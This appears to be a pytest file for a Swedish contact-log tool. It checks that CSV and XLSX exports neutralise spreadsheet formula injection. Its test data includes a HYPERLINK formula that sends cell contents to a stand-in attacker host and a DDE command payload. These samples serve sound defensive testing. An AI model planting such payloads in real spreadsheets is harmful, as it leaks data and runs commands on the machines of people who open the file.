"""Spreadsheet-bound outputs never carry a live formula (OWASP "CSV injection").

Text from a contact log that starts with ``=``, ``+``, ``-`` or ``@`` reaches CSV files as
``'…`` (shown as text) and XLSX files as text cells; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from podcast.cli import cli
from podcast.spreadsheet import FORMULA_TRIGGERS, csv_cell, is_number_text

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = [
    '=HYPERLINK("http://angripare.example/?x="&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+1+1 snöröjning på gatan",
    "-2+3 hur söker man bygglov",
    "@SUM(1+1) när töms soptunnan",
    "\t=1+1 vattenläcka",
]


def _unsafe(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS) and not is_number_text(cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_gets_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12", "+3,5", "-0.25e3", "1 000", "12%", -4, 3.5, None, ""])
def test_numbers_and_plain_values_are_kept(value: object) -> None:
    assert csv_cell(value) == value


def test_plain_text_is_kept() -> None:
    assert csv_cell("Hej, när kommer plogbilen?") == "Hej, när kommer plogbilen?"


def _log(tmp_path: Path) -> Path:
    path = tmp_path / "logg.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, delimiter=";")
        w.writerow(["datum", "kanal", "fritext", "antal"])
        for i, text in enumerate(HOSTILE * 3):
            w.writerow([f"2026-01-{i % 28 + 1:02d}", "telefon", text, "-5"])
    return path


def test_redact_to_xlsx_writes_text_cells_not_formulas(tmp_path: Path, runner) -> None:
    out = tmp_path / "ut.xlsx"
    res = runner.invoke(cli, ["redact", str(_log(tmp_path)), "--output", str(out)])
    assert res.exit_code == 0, res.output
    ws = openpyxl.load_workbook(out).worksheets[0]
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["datum", "kanal", "fritext", "antal"]
    texts = [r[2] for r in rows[1:]]
    assert [c.value for c in texts[:len(HOSTILE)]] == HOSTILE  # the text itself is kept
    assert all(c.data_type != "f" for r in rows for c in r)
    assert all(c.quotePrefix for c in texts if c.value.startswith("="))


def test_redact_to_csv_quotes_formula_like_cells_and_keeps_numbers(tmp_path: Path,
                                                                   runner) -> None:
    out = tmp_path / "ut.csv"
    res = runner.invoke(cli, ["redact", str(_log(tmp_path)), "--output", str(out)])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert not [c for r in rows for c in r if _unsafe(c)]
    assert rows[1][2] == "'" + HOSTILE[0]
    assert {r[3] for r in rows[1:]} == {"-5"}


def test_workbook_redacted_in_place_keeps_text_as_text(tmp_path: Path, runner) -> None:
    from podcast.spreadsheet import keep_as_text

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Fråga", "Summa"])
    keep_as_text(ws.cell(2, 1), "=Ring Anna Svensson på 070-123 45 67")
    ws.cell(2, 2).value = "=SUM(1,2)"  # a real formula stays a formula
    src = tmp_path / "in.xlsx"
    wb.save(src)
    out = tmp_path / "ut.xlsx"
    res = runner.invoke(cli, ["redact", str(src), "--output", str(out)])
    assert res.exit_code == 0, res.output
    row = list(openpyxl.load_workbook(out).worksheets[0].iter_rows())[1]
    assert row[0].data_type == "s" and row[0].value.startswith("=Ring")
    assert "070-123" not in row[0].value
    assert row[1].data_type == "f" and row[1].value == "=SUM(1,2)"


def test_themes_csv_and_assignments_have_no_formula_cells(tmp_path: Path, runner) -> None:
    log = _log(tmp_path)
    report, assignments = tmp_path / "teman.csv", tmp_path / "rader.csv"
    res = runner.invoke(cli, ["themes", str(log), "--method", "lexical", "--format", "csv",
                              "--output", str(report), "--assignments", str(assignments)])
    assert res.exit_code == 0, res.output
    for path in (report, assignments):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        assert len(rows) > 1
        bad = [c for r in rows for c in r if _unsafe(c)]
        assert not bad, (path.name, bad)
    examples = [c for r in csv.reader(io.StringIO(report.read_text(encoding="utf-8")))
                for c in r if c.lstrip("'").startswith(("=", "+", "@"))]
    assert examples and all(c.startswith("'") for c in examples)
